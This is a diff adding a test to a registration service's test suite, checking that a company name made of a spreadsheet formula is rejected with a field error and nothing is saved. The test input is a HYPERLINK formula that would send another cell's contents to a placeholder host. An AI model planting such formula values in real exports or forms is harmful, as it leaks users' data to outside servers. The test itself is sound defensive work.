@@ -60,3 +60,14 @@ def test_an_ordinary_name_with_a_sign_inside_is_accepted(ctx, make_user):
     user = make_user("sme")
     org = services.register_enterprise(user.actor(), _enterprise(name="温州A+B泵阀有限公司", uscc=valid_uscc(4302)))
     assert org.name == "温州A+B泵阀有限公司"
+
+
+def test_the_registration_page_marks_the_name_field_and_saves_nothing(ctx, make_user, login):
+    from tests.enterprises.conftest import counts, field_error, form_data
+
+    client = login(make_user("sme"))
+    before = counts()
+    response = client.post("/enterprise", data=form_data(name='=HYPERLINK("http://x/?"&B3,"x")'))
+    assert response.status_code == 422
+    assert "公式" in field_error(response.get_data(as_text=True), "name")  # the Chinese message, on the field
+    assert counts() == before
